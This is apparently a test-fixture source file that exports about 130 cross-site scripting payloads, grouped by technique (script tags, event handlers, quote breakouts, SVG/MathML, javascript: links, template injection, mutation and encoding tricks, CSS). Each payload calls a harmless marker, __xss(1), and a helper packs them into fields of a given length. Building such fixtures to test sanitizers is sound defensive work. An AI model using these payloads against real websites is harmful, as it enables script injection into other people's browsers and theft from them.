// Texts that an attacker would type. Each calls __xss when a browser, a mail program or a template lets it run.

const tags = [
  '<script>__xss(1)</script>',
  '<SCRIPT>__xss(1)</SCRIPT>',
  '<script/x>__xss(1)</script >',
  '<script\t>__xss(1)</script\n>',
  '<script>__xss`1`</script>',
  '<script src=data:text/javascript,__xss(1)></script>',
  '<script type=module>import("data:text/javascript,__xss(1)")</script>',
  '</script><script>__xss(1)</script>',
  '</title><script>__xss(1)</script>',
  '</textarea><script>__xss(1)</script>',
  '</style><script>__xss(1)</script>',
  '</pre></td></table><script>__xss(1)</script>',
  '<scr<script>ipt>__xss(1)</scr</script>ipt>',
  '<<script>__xss(1);//<</script>',
  '<script>//\u2028__xss(1)</script>',
  '<script nonce=x>__xss(1)</script>',
];

const handlers = [
  '<img src=x onerror=__xss(1)>',
  '<img src=x onerror="__xss(1)">',
  "<img src=x onerror='__xss(1)'>",
  '<img/src/onerror=__xss(1)>',
  '<IMG SRC=x ONERROR=__xss(1)>',
  '<img src=x:x onerror\t=\t__xss(1)>',
  '<img src=x onerror\n=__xss(1)//',
  '<img src=x oneonerrorrror=__xss(1)>',
  '<body onload=__xss(1)>',
  '<input autofocus onfocus=__xss(1)>',
  '<details open ontoggle=__xss(1)>',
  '<video><source onerror=__xss(1)></video>',
  '<audio src=x onerror=__xss(1)>',
  '<marquee onstart=__xss(1)>x</marquee>',
  '<select autofocus onfocus=__xss(1)>',
  '<textarea autofocus onfocus=__xss(1)>',
  '<div onpointerover=__xss(1) style=position:fixed;inset:0>x</div>',
  '<a onmouseover=__xss(1) href=#>x</a>',
  '<p tabindex=1 onfocus=__xss(1) autofocus>x</p>',
  '<div contenteditable onbeforeinput=__xss(1)>x</div>',
  '<x onclick=__xss(1) style=display:block>x',
  '<dialog open onclose=__xss(1)><form method=dialog><button>x',
  '<div style=animation-name:x onanimationstart=__xss(1)>',
  '<link rel=stylesheet href=x onerror=__xss(1)>',
];

const quotes = [
  '"><script>__xss(1)</script>',
  "'><script>__xss(1)</script>",
  '" onmouseover="__xss(1)',
  "' onmouseover='__xss(1)",
  '" autofocus onfocus=__xss(1) x="',
  '`onmouseover=__xss(1) `',
  '"/><svg onload=__xss(1)>',
  '\\"><img src=x onerror=__xss(1)>',
  '\\u003cscript>__xss(1)\\u003c/script>',
  "';__xss(1);//",
  '";__xss(1);//',
  '"};__xss(1);({"a":"',
  "\\';__xss(1);//",
  '*/__xss(1);/*',
  '-->__xss(1)<script>__xss(1)</script><!--',
  '--!><img src=x onerror=__xss(1)>',
  ']]><script>__xss(1)</script>',
  '</div></main></body><script>__xss(1)</script>',
];

const foreignMarkup = [
  '<svg onload=__xss(1)>',
  '<svg/onload=__xss(1)//',
  '<svg><script>__xss(1)</script></svg>',
  '<svg><script href=data:,__xss(1) />',
  '<svg><a xlink:href=javascript:__xss(1)><text y=20>x</text></a>',
  '<svg><animate onbegin=__xss(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:__xss(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=__xss(1)>#x">',
  '<svg><foreignObject><img src=x onerror=__xss(1)></foreignObject>',
  '<svg><style><img src=x onerror=__xss(1)></style>',
  '<svg><title><img src=x onerror=__xss(1)></title>',
  '<math><mtext><img src=x onerror=__xss(1)></mtext></math>',
  '<math href=javascript:__xss(1)>x</math>',
  '<math><maction actiontype=statusline xlink:href=javascript:__xss(1)>x',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">__xss(1)</x:script>',
  '<!DOCTYPE x [<!ENTITY y "__xss(1)">]><x>&y;</x>',
];

const addresses = [
  '<a href=javascript:__xss(1)>x</a>',
  '<a href="JaVaScRiPt:__xss(1)">x</a>',
  '<a href="java\tscript:__xss(1)">x</a>',
  '<a href="java\nscript:__xss(1)">x</a>',
  '<a href=" \u0001javascript:__xss(1)">x</a>',
  '<a href="&#106;avascript:__xss(1)">x</a>',
  '<a href="javascript&colon;__xss(1)">x</a>',
  '<a href="data:text/html,<script>__xss(1)</script>">x</a>',
  '<a href=vbscript:__xss(1)>x</a>',
  '<a href="//evil.example" ping="javascript:__xss(1)">x</a>',
  '<iframe src=javascript:__xss(1)></iframe>',
  '<iframe srcdoc="<script>parent.__xss(1)</script>"></iframe>',
  '<object data=javascript:__xss(1)></object>',
  '<embed src=javascript:__xss(1)>',
  '<form action=javascript:__xss(1)><button>x</button></form>',
  '<button formaction=javascript:__xss(1) form=x>x</button>',
  '<base href=javascript:__xss(1)//>',
  '<meta http-equiv=refresh content="0;url=javascript:__xss(1)">',
  '[x](javascript:__xss(1))',
  '![x](data:text/html,__xss(1))',
  '[x]: javascript:__xss(1)',
  '<javascript:__xss(1)>',
  'javascript:__xss(1)',
  'javascript://%0a__xss(1)',
];

const templates = [
  '{{__xss(1)}}',
  '{{constructor.constructor("__xss(1)")()}}',
  // \x24 is the dollar sign, written so that nobody takes these for templates of ours.
  '\x24{__xss(1)}',
  '#{__xss(1)}',
  '<%= __xss(1) %>',
  '{%raw%}<script>__xss(1)</script>{%endraw%}',
  '[[\x24{__xss(1)}]]',
  '<div ng-app ng-csp>{{$eval("__xss(1)")}}</div>',
  '<div v-html="\'<img src=x onerror=__xss(1)>\'"></div>',
  '<div x-data x-init=__xss(1)></div>',
  '{"__html":"<img src=x onerror=__xss(1)>"}',
  '__proto__[innerHTML]=<img src=x onerror=__xss(1)>',
];

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=__xss(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=__xss(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=__xss(1)>">',
  '<template><img src=x onerror=__xss(1)></template>',
  '<listing>&lt;img src=x onerror=__xss(1)&gt;</listing>',
  '<math><mi><table><mglyph><style><!--</style><img title="--><img src=x onerror=__xss(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__xss(1)>',
  '<svg></p><style><a title="</style><img src=x onerror=__xss(1)>">',
  '<table><td background=javascript:__xss(1)>x</table>',
  '<h2 id="x"><img src=x onerror=__xss(1)></h2>',
  '<h2 title="</h2><img src=x onerror=__xss(1)>">x</h2>',
  '<a href="/x" title="&quot;><img src=x onerror=__xss(1)>">x</a>',
  '&lt;img src=x onerror=__xss(1)&gt;',
  '&amp;lt;script&amp;gt;__xss(1)&amp;lt;/script&amp;gt;',
  '&#60;script&#62;__xss(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=__xss(1)&#x3e',
];

const letters = [
  '\uff1cscript\uff1e__xss(1)\uff1c/script\uff1e',
  '\u202e<script>__xss(1)</script>\u202c',
  '<\u200bscript>__xss(1)</script>',
  '<scr\u0131pt>__xss(1)</scr\u0131pt>',
  '<\u017fcript>__xss(1)</\u017fcript>',
  '+ADw-script+AD4-__xss(1)+ADw-/script+AD4-',
  '%3Cscript%3E__xss(1)%3C/script%3E',
  '\ufeff<script>__xss(1)</script>',
  '\u00bcscript\u00be__xss(1)\u00bc/script\u00be',
  '\ud83d\ude00<img src=x onerror=__xss(1)>',
];

const styles = [
  '<style>@import "javascript:__xss(1)";</style>',
  '<style>*{background:url(javascript:__xss(1))}</style>',
  '<div style="background:url(javascript:__xss(1))">x</div>',
  '<div style="width:expression(__xss(1))">x</div>',
  '<div style="-moz-binding:url(//evil.example/x#__xss)">x</div>',
  '";}body{background:url(//evil.example/__xss)}',
];

export const PAYLOADS: readonly string[] = [
  ...tags,
  ...handlers,
  ...quotes,
  ...foreignMarkup,
  ...addresses,
  ...templates,
  ...mutations,
  ...letters,
  ...styles,
];

/** As they fit into a field of that length, each in one of the parts; what is too long for the field is left out. */
export function fitted(max: number, payloads = PAYLOADS): string[] {
  const parts: string[] = [];
  for (const payload of payloads.filter(({ length }) => length <= max)) {
    const joined = `${parts.at(-1)} ${payload}`;
    if (parts.length > 0 && joined.length <= max) parts[parts.length - 1] = joined;
    else parts.push(payload);
  }
  return parts;
}
